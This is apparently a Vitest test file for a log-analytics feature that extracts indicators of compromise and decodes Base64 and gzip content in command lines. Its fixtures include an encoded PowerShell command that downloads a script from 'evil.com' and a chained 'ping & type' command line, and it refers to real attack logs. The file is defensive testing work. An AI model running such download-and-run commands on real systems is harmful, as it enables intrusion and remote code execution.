import { createHash } from 'node:crypto'
import { gzipSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { decodeTextTable } from '../../../src/analytics/text/decode-text-table.ts'
import { extractIocTable, type IocTableOptions } from '../../../src/analytics/text/extract-ioc-table.ts'
import { Table } from '../../../src/lib/table.ts'
import { hasRealLogs, realLog } from '../real-logs.ts'

const encoded = Buffer.from('iwr http://evil.com/a.ps1', 'utf16le').toString('base64')

const log = Table.fromRows(
  [
    { name: 'Time', type: 'datetime' },
    { name: 'CommandLine', type: 'string' },
    { name: 'Details', type: 'dynamic' },
    { name: 'FileVersion', type: 'string' },
    { name: 'Host', type: 'string' },
  ],
  [
    ['2026-01-01T00:00:00Z', 'ping 10.0.0.1', { url: 'https://b.example.com/x' }, '1.2.3.4', 'a'],
    ['2026-01-02T00:00:00Z', 'ping 10.0.0.1 & type C:\\a\\b.txt', null, '1.2.3.4', 'b'],
    ['2026-01-03T00:00:00Z', `powershell -enc ${encoded}`, null, '', 'c'],
    ['2026-01-04T00:00:00Z', '', null, '', 'd'],
    ['2026-01-05T00:00:00Z', 'ping 10.0.0.1', null, '', 'e'],
  ],
)

function found(table: Table, options?: IocTableOptions): Table {
  return extractIocTable(table, options).table
}

function observables(table: Table): string[] {
  return table
    .rows()
    .map(([type, observable, , count, column, row]) => `${type} ${observable} ${count} ${column} ${row}`)
}

describe('observables of a table', () => {
  it('are one row each with how many cells have them, the first of which is named', () => {
    expect(observables(found(log))).toEqual([
      'ipv4 10.0.0.1 3 CommandLine 0',
      'url http://evil.com/a.ps1 1 CommandLine 2',
      'url https://b.example.com/x 1 Details 0',
      'dns evil.com 1 CommandLine 2',
      'dns b.example.com 1 Details 0',
    ])
  })

  it('say where and under what they stood', () => {
    const [, url] = [...found(log).objects()]
    expect(url).toMatchObject({
      Kind: '',
      AsFound: 'http://evil.com/a.ps1',
      Position: 4,
      Decoding: 'base64',
      Context: 'iwr http://evil.com/a.ps1',
    })
  })

  it('are not looked for in encoded texts, nor in other columns or types, when told so', () => {
    expect(observables(found(log, { decode: false, types: ['url', 'ipv4'] }))).toEqual([
      'ipv4 10.0.0.1 3 CommandLine 0',
      'url https://b.example.com/x 1 Details 0',
    ])
    expect(observables(found(log, { columns: ['Details'], types: ['dns'] }))).toEqual(['dns b.example.com 1 Details 0'])
  })

  it('are paths too when asked for', () => {
    expect(observables(found(log, { paths: true, columns: ['CommandLine'] })).at(-1)).toBe(
      'windows_path C:\\a\\b.txt 1 CommandLine 1',
    )
  })

  it('are every one of them, row by row, with columns of the row beside', () => {
    const every = found(log, { occurrences: true, types: ['ipv4'], keep: ['Time', 'Host', 'Nothing'] })
    expect(every.columns.map(({ name }) => name).slice(-3)).toEqual(['Context', 'Time', 'Host'])
    expect(every.rows().map((row) => [row[5], row.at(-1)])).toEqual([
      [0, 'a'],
      [1, 'b'],
      [4, 'e'],
    ])
  })

  it('stand in texts of JSON as these mean them', () => {
    const cells = [[{ text: 'first\nevil.com' }, JSON.stringify({ path: 'C:\\a\\b', note: 'x\tbad.org' })]]
    const table = Table.fromRows(
      [
        { name: 'Bag', type: 'dynamic' },
        { name: 'Text', type: 'string' },
      ],
      cells,
    )
    expect(found(table, { paths: true }).column('Observable')).toEqual(['evil.com', 'bad.org', 'C:\\a\\b'])
  })

  it('are the same in any case where they are in the world', () => {
    const texts = [['Bob@evil.com C:\\Windows\\A.exe'], ['bob@evil.com c:\\windows\\a.exe']]
    const table = found(Table.fromRows([{ name: 'Text', type: 'string' }], texts), { paths: true })
    expect(observables(table)).toEqual(['email Bob@evil.com 2 Text 0', 'windows_path C:\\Windows\\A.exe 2 Text 0'])
  })

  it('are the hash of a file that is encoded in a text', () => {
    const zip = gzipSync('some bytes that are packed')
    const table = Table.fromRows([{ name: 'Text', type: 'string' }], [[`x ${zip.toString('base64')}`]])
    const sha256 = createHash('sha256').update(zip).digest('hex')
    expect([...found(table).objects()]).toMatchObject([
      { IoCType: 'sha256_hash', Observable: sha256, Kind: 'of a decoded gz', Decoding: 'base64', Position: 2 },
    ])
    expect(found(table, { types: ['url'] }).rowCount).toBe(0)
  })

  it('says what of encoded texts was left out', () => {
    const many = Array.from({ length: 600 }, (_, at) =>
      Buffer.from(`this is text number ${at}`).toString('base64'),
    ).join(' ')
    const { notices } = extractIocTable(Table.fromRows([{ name: 'Text', type: 'string' }], [[many]]))
    expect(notices).toEqual(['Only the first 500 encoded parts are decoded.'])
  })

  it('tells which columns there are', () => {
    expect(() => found(log, { columns: ['Time'] })).toThrow('There is no column of texts `Time`.')
    expect(found(Table.empty([{ name: 'n', type: 'long' }])).rowCount).toBe(0)
  })

  it('tells how far it has come', () => {
    const rows = Array.from({ length: 500 }, (_, at) => [`10.0.${at % 250}.1`])
    const told: number[] = []
    extractIocTable(Table.fromRows([{ name: 'Ip', type: 'string' }], rows), {}, (done, total) =>
      told.push(done / total),
    )
    expect(told.length).toBeGreaterThan(10)
    expect(told.at(-1)).toBe(1)
  })
})

describe('decoded texts of a table', () => {
  it('are a row for each step, the whole text on the first', () => {
    const { table, notices } = decodeTextTable(log, { keep: ['Host'] })
    expect([...table.objects()]).toMatchObject([
      {
        SourceColumn: 'CommandLine',
        SourceRow: 2,
        Count: 1,
        Step: 1,
        Depth: 1,
        Encoding: 'base64',
        Decoded: 'iwr http://evil.com/a.ps1',
        Charset: 'utf-16le',
        Bytes: 50,
        Printable: 1,
        Input: encoded,
        Position: 16,
        Problem: '',
        FullDecoded: 'powershell -enc iwr http://evil.com/a.ps1',
        Host: 'c',
      },
    ])
    expect(notices).toEqual([])
  })
})

describe.skipIf(!hasRealLogs)('real logs', () => {
  it('every indicator of a feed is found, as it is and made harmless, and its host beside', () => {
    if (!hasRealLogs) return
    const feed = realLog('msticpy-ti/ThreatIntelligenceIndicator.jsonl', { NetworkIP: 'string', Url: 'string' })
    const wanted = [...feed.objects()].map(({ NetworkIP, Url }) => String(NetworkIP || Url))
    expect(wanted).toHaveLength(633)
    const asIs = new Set(found(feed).column('Observable'))
    expect(wanted.filter((observable) => !asIs.has(observable))).toEqual([])
    const harmless = wanted.map((text) => [`seen ${text.replaceAll('.', '[.]').replace('http', 'hxxp')}, blocked`])
    const again = new Set(found(Table.fromRows([{ name: 'Text', type: 'string' }], harmless)).column('Observable'))
    expect(wanted.filter((observable) => !again.has(observable))).toEqual([])
  })

  it('the command lines of a demonstration hold these and no others', () => {
    if (!hasRealLogs) return
    const processes = realLog('msticnb/SecurityEvent.jsonl', { CommandLine: 'string' })
    expect(observables(found(processes)).map((text) => text.split(' ').slice(0, 3).join(' '))).toEqual([
      'ipv4 127.0.0.1 311',
      'ipv4 168.63.129.16 15',
      'url http://wh401k.org/getps 4',
      'url https://clients2.google.com/cr/report 2',
      expect.stringMatching(/^url http:\/\/redirector\.gvt1\.com\/\S+ 1$/),
      'url http://www.401k.com/upload?pass=34592389 1',
      'email timb@microsoft.com 100',
      'email ianhelle@microsoft.com 100',
      'email shainw@microsoft.com 100',
      'email romead@microsoft.com 96',
      'dns wh401k.org 4',
      'dns clients2.google.com 2',
      'dns redirector.gvt1.com 1',
      'dns www.401k.com 1',
    ])
  })

  it('code in a gzip in Base64 in a command line is read, and the code in it found', () => {
    if (!hasRealLogs) return
    const { table } = decodeTextTable(realLog('evtx-to-mitre/SecurityEvent.jsonl', { CommandLine: 'string' }))
    const rows = [...table.objects()]
    const packed = rows.filter(({ Encoding }) => Encoding === 'gzip')
    expect(packed).toHaveLength(6)
    for (const { Decoded } of packed) expect(Decoded).toContain('VirtualAlloc')
    expect(rows.filter(({ Depth, Bytes }) => Depth === 3 && Bytes === 375)).toHaveLength(6)
    expect(rows.filter(({ FileType }) => FileType === 'exe')).toHaveLength(1)
  })
})
